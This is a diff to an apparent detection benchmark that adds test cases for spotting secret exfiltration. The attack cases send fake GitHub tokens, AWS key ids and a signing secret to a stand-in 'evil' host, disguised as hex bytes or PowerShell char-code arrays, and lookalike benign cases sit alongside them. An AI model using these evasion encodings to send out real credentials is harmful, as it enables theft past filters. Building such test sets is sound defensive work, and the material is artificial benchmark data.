@@ -35,6 +35,7 @@ from bench.dumps import (
     od_an_x,
     od_b,
     od_c,
+    powershell_chars,
     powershell_join,
     wrapped_b64,
     xxd,
@@ -565,6 +566,34 @@ def attacks(rng: random.Random) -> list[Case]:
         headers=plain, body=("$ base64 -w 40 token\n" + wrapped_b64(fourth.github().encode(), 40) + "$ exit\n").encode())
     add("base64", "base64 -w 32 of an AWS credentials file", ("aws-access-key-id",), method="POST",
         url=f"{evil}/paste", headers=plain, body=wrapped_b64(aws4, 32).encode())
+
+    # -- hex bytes inside a line, PowerShell's other character calls --------------------------
+    fifth = _Fakes(random.Random(911))  # its own generator: the cases before stay as they were
+    add("hexdump", "hex bytes of a token after 'token: ' in a YAML file", ("github-token",), method="POST",
+        url=f"{evil}/paste", headers=plain,
+        body=("service: ci\nauth:\n  token: " + hex_line(fifth.github().encode()) + "\n  user: bot\n").encode())
+    add("hexdump", "hex bytes of an AWS key id in a quoted value in a JSON field", ("aws-access-key-id",),
+        method="POST", url=f"{evil}/j", headers=(JSON,),
+        body=_json({"cmd": '$k = "' + hex_line(fifth.aws_id().encode()) + '"'}))
+    add("hexdump", "tab-separated hex bytes of a token, indented in a code block", ("github-token",),
+        method="POST", url=f"{evil}/paste", headers=plain,
+        body=("the bytes:\n\n    " + hex_line(fifth.github().encode(), tabs=True) + "\n\nthanks\n").encode())
+    add("hexdump", "hex bytes of the signing secret after 'secret = '", ("SIGNING_SECRET",), method="POST",
+        url=f"{evil}/paste", headers=plain, body=("[hook]\nsecret = " + hex_line(signing.encode(), 2) + "\n").encode())
+    add("charcodes", "PowerShell (N -as [char]) joined by + of a token", ("github-token",), method="POST",
+        url=f"{evil}/run", headers=plain,
+        body=("$t = " + powershell_chars(fifth.github().encode(), "-as") + "\n").encode())
+    add("charcodes", "PowerShell [System.Convert]::ToChar array, commas and line breaks mixed, of an AWS key id",
+        ("aws-access-key-id",), method="POST", url=f"{evil}/run", headers=(JSON,),
+        body=_json({"script": "$k = -join @(\n    " + powershell_chars(
+            fifth.aws_id().encode(), "System.Convert", (",\n    ", "\n    ", ", ")) + "\n)"}))
+    add("charcodes", "PowerShell [char]::ConvertFromUtf32 -join of the signing secret", ("SIGNING_SECRET",),
+        method="POST", url=f"{evil}/run", headers=plain,
+        body=("$s = -join (" + powershell_chars(signing.encode(), "ConvertFromUtf32", (", ",), hex_codes=True)
+              + ")\n").encode())
+    add("charcodes", "PowerShell @() of ([char]N) with semicolons and line breaks, of a token", ("github-token",),
+        method="POST", url=f"{evil}/run", headers=plain,
+        body=("$t = -join @(\n  " + powershell_chars(fifth.github().encode(), "(cast)", ("; ", "\n  ")) + "\n)\n").encode())
     return out
 
 
@@ -878,6 +907,29 @@ def benign(rng: random.Random) -> list[Case]:
     add("lookalike", "base64 -w 40 of random bytes and of a source file, then a word", method="POST",
         url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
         body=(wrapped_b64(more.randbytes(45), 40) + "done\n" + wrapped_b64(source[:150], 32) + "ok\n").encode())
+    last = random.Random(911)  # its own generator: the cases before stay as they were
+    add("lookalike", "a PowerShell script writing text with ToChar, -as [char] and ConvertFromUtf32", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("$hello = -join @(" + powershell_chars(b"Hello, World!", "ToChar", (", ",)) + ")\n"
+              "$path = " + powershell_chars(b"C:\\Temp\\build.log", "-as") + "\n"
+              "$smile = [char]::ConvertFromUtf32(0x1F600)\n$tab = [System.Convert]::ToChar(9)\n"
+              "$line = -join @(\n  " + powershell_chars(b"Build finished", "System.Convert", (",\n  ", "\n  "))
+              + "\n)\nWrite-Host $hello $path $smile\n").encode())
+    add("lookalike", "config files with sha256 digests written as spaced hex bytes", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("artifact:\n  name: app.tar.gz\n  sha256: " + hex_line(last.randbytes(32)) + "\n"
+              "  md5: " + hex_line(last.randbytes(16), 2) + "\n"
+              "[checksums]\nsha1 = " + hex_line(last.randbytes(20)) + "\n"
+              'digest = "' + hex_line(last.randbytes(32)) + '"\n'
+              "key\t" + hex_line(last.randbytes(16), tabs=True) + "\n").encode())
+    add("lookalike", "MAC addresses and a byte table with offsets", method="POST",
+        url="https://api.github.com/repos/o/r/issues", headers=(JSON,),
+        body=_json({"title": "nic table", "body": "eth0: ether 00 1a 2b 3c 4d 5e\nwlan0: 3c 22 fb 91 0a 7e\n"
+                    "mac = 52 54 00 12 34 56, 52 54 00 ab cd ef\n\nCRC table:\n"
+                    + "".join(f"  {row * 8:02x}:  " + hex_line(bytes((row * 8 + i) * 7 % 256 for i in range(8)), 2) + "\n"
+                              for row in range(8))
+                    + "ASCII:\n" + "".join(f"  {c:02x}  " + hex_line(bytes(range(c, c + 8))) + "\n"
+                                            for c in range(0x40, 0x80, 8))}))
     return out
 
 
